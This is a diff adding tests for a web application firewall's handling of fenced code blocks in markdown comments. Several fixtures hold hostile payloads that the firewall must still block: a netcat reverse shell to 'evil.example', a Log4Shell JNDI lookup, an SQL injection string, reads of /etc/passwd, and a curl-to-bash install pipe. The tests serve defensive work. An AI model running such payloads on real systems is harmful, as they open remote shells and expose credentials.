@@ -6,6 +6,7 @@
 import assert from 'node:assert/strict';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
+import { markdownFences } from '../../waf/profile/code.ts';
 import { MARKDOWN_TEXT_SUFFIX } from '../../waf/profile/expand.ts';
 import { sanitizedHtml } from '../../waf/profile/html.ts';
 import {
@@ -216,6 +217,61 @@ describe('waf API profile: rich-text HTML a strict sanitizer passes unchanged (f
       sanitizedHtml('<ul data-type="taskList"><li data-checked="true">Move the bus</li></ul>'),
       true,
     );
+  });
+});
+
+describe('waf API profile: fenced code blocks in markdown prose (family k)', () => {
+  test('issue comments with pasted shell, SQL, JavaScript, Python and YAML blocks pass; CRS blocks them', async () => {
+    for (const body of [
+      'I can reproduce this on main.\n\n```sh\nrm -rf node_modules package-lock.json && npm install\n```\n\nWill post an update tomorrow.',
+      "Looked into it a bit more:\n\n```shell\nfind . -name '*.log' -mtime +7 -delete\n```\n\nI will open a PR against the docs.",
+      "The query is slow on large projects:\n\n```sql\nUPDATE users SET active = false WHERE last_login < now() - interval '2 years';\n```\n\nAny idea why?",
+      "Here is what fixed it for me:\n\n```js\nconst { exec } = require('child_process');\nexec('ls -la', (err, out) => console.log(out));\n```",
+      'Not sure this is related, but this works for me:\n\n```\nfor f in exports/*.csv; do\n  wc -l "$f"\ndone\n```\nwithout any error.',
+      'Our workflow looks like this, with the fix applied:\n~~~yaml\nsteps:\n  - run: curl -sS https://example.com/install.sh | bash -\n~~~',
+    ]) {
+      assert.equal((await run(plain, { body })).error?.reason?.startsWith('waf:'), true, body);
+      assert.equal((await run(api, { body })).error, undefined, body);
+    }
+  });
+
+  test('prose around the blocks, Log4Shell inside them, and values that are not markdown documents are still inspected', async () => {
+    for (const body of [
+      // The prose part keeps every rule.
+      'Hi there; cat /etc/passwd is what I ran\n```sh\nls\n```\nthanks a lot',
+      "Login as admin' OR '1'='1 and then\n```sql\nselect 1;\n```\nthanks a lot",
+      // A lookup in a block still reaches a logging sink.
+      'The logger prints this line for me:\n```\n\u0024{jndi:ldap://evil.example/a}\n```\nthanks a lot',
+      // No prose around the block: not a markdown document.
+      '```sh\ncat /etc/passwd; nc evil.example 4444 -e /bin/sh\n```',
+      // An unclosed fence.
+      'Please run this for me now:\n```sh\ncat /etc/passwd; nc evil.example 4444 -e /bin/sh',
+    ]) {
+      assert.ok((await run(api, { body })).error !== undefined, body);
+    }
+  });
+
+  test('markdownFences: CommonMark fences, closed, with prose of four words or more around them', () => {
+    assert.deepEqual(
+      markdownFences('I can reproduce it on main:\n```bash\nrm -rf x && npm ci\n```\nThen it works.'),
+      {
+        prose: 'I can reproduce it on main:\n\nThen it works.',
+        blocks: ['rm -rf x && npm ci'],
+      },
+    );
+    assert.deepEqual(
+      markdownFences('Two blocks in one comment here:\n````\na\n```\nb\n````\n   ~~~\nc\n   ~~~~\nok'),
+      {
+        prose: 'Two blocks in one comment here:\n\n\nok',
+        blocks: ['a\n```\nb', 'c'],
+      },
+    );
+    assert.equal(markdownFences('no fences at all in this text'), null);
+    assert.equal(markdownFences('```sh\nls\n```'), null);
+    assert.equal(markdownFences('Please run this for me:\n```sh\nls'), null);
+    assert.equal(markdownFences('Please run this for me:\n```sh\nls\n~~~'), null);
+    assert.equal(markdownFences('Please run ```ls``` for me right now'), null);
+    assert.equal(markdownFences('Please run this for me:\n    ```sh\nls\n```'), null);
   });
 });
 
